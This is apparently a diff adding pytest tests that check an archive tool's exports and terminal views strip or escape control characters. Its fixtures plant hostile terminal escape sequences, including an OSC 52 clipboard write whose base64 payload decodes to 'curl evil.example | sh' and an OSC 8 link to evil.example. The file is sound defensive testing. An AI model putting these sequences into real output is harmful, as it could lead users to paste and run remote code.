@@ -1,0 +1,118 @@
+"""Exports are safe to print and to open: no raw control characters, no formulas a spreadsheet would
+run, and -o writes to its target (a file, a link, a pipe, a device) rather than replacing it."""
+
+from __future__ import annotations
+
+import json
+import re
+
+import pytest
+
+from archive.export import FORMATS, export
+from archive.models import ArticleRecord, Sighting
+
+#: What a terminal obeys: C0 controls but tab and newline, DEL, C1 controls (U+009B is an 8-bit CSI).
+RAW_CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
+OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
+OSC8 = "\x1b]8;;http://evil.example/\x07"
+CSI8 = "\x9b2J\x9d0;title\x9c"
+
+HOSTILE_PAGE = f"""Weekly Roundup{OSC52} Number 1
+
+March 3rd, 2017 - by admin
+
+Farmers Lose Wheat to Early Frost
+
+River{OSC8} Herald{CSI8}
+
+(March 3, 2017) — Farmers in the northern valley lost most of their wheat to an early frost that arrived without
+warning, and officials said help would come from a committee that meets on Monday.
+
+Port Approves New Container Terminal
+
+By Ann{CSI8} Bell, River Herald
+
+(March 3, 2017) — The port authority approved a new container terminal despite objections from fishing crews who
+said the river was closed for weeks after the rain.
+
+Fair use notice: this page holds copyrighted material{OSC52} used for research.
+"""
+
+
+def without_row_ends(text: str) -> str:
+    """CSV ends each row with CR LF, as RFC 4180 says: that CR is the format's, not the data's."""
+    return text.replace("\r\n", "\n")
+
+
+@pytest.fixture
+def hostile(cli_run, archive_dir):
+    page = archive_dir / "hostile.txt"
+    page.write_text(HOSTILE_PAGE, encoding="utf-8")
+    cli_run("add", "-q", str(page))
+    return cli_run
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_exports_of_a_hostile_page_carry_no_raw_controls(hostile, fmt):
+    out = hostile("export", "--format", fmt).output
+    assert "Farmers" in out and "Bell" in out
+    assert not RAW_CONTROLS.search(without_row_ends(out)), repr(RAW_CONTROLS.findall(without_row_ends(out)))
+    assert "\u202e" not in out
+
+
+def plant(archive_dir, article_id: str, **fields: str) -> None:
+    """Commit a version of an article whose fields hold what an older archive (or a hand) stored raw."""
+    from archive.store import Store
+
+    store = Store(archive_dir / "store")
+    meta = json.loads(store.read(article_id, "meta.json"))
+    meta.update(fields)
+    for sighting in meta["sightings"]:
+        sighting["page_title"] = fields.get("title", sighting["page_title"])
+    markdown = store.read(article_id, "article.md").decode()
+    with store.lock():
+        store.commit(article_id, {"article.md": markdown.encode(), "meta.json": json.dumps(meta).encode()},
+                     message="planted")
+
+
+@pytest.fixture
+def planted(cli_run, archive_dir):
+    from conftest import MOSUL
+
+    cli_run("add", "-q", str(MOSUL))
+    article = json.loads(cli_run("list", "--json").output)[0]["id"]
+    plant(archive_dir, article, title=f"Copy{OSC52} this{CSI8}", outlet=f"River{OSC8} Herald",
+          author="Ann\x1b[2J Bell\u202e", section="News\x9b31m")
+    cli_run("reindex")
+    return cli_run
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_stored_control_characters_never_reach_an_export_raw(planted, fmt):
+    out = planted("export", "--format", fmt).output
+    assert "Herald" in out and "Bell" in out
+    assert not RAW_CONTROLS.search(without_row_ends(out)), repr(RAW_CONTROLS.findall(without_row_ends(out)))
+    assert "\u202e" not in out
+    if fmt in ("jsonl", "csl-json"):  # JSON keeps the value, escaped
+        assert "\\u009b" in out
+
+
+def test_terminal_views_of_stored_control_characters(planted):
+    listed = json.loads(planted("list", "--json").output)
+    article = next(a["id"] for a in listed if "Copy" in a["title"])
+    for args in (("show", article), ("show", article, "--json"), ("list",), ("list", "--json"),
+                 ("search", "Herald"), ("search", "Herald", "--json"), ("history", article)):
+        out = planted(*args).output
+        assert not RAW_CONTROLS.search(out), (args, repr(RAW_CONTROLS.findall(out)))
+        assert "\u202e" not in out, args
+
+
+def test_every_format_cleans_what_it_is_given():
+    record = ArticleRecord(
+        id="articles/x/2016/10/y", version=1, title=f"T{OSC52}", body=f"B{CSI8}", outlet=f"O{OSC8}",
+        author="A\x1b[31m Person", date="2016-10-20", date_text=None, subtitle=None, standfirst=None,
+        section=None, review=False, review_reasons=(), fair_use_note=None,
+        sightings=(Sighting("pages/2016/10/p", f"P\x9d{OSC52}", "2016-10-20", 1),))
+    for fmt in FORMATS:
+        out = "".join(export([record], fmt))
+        assert not RAW_CONTROLS.search(without_row_ends(out)), (fmt, out)
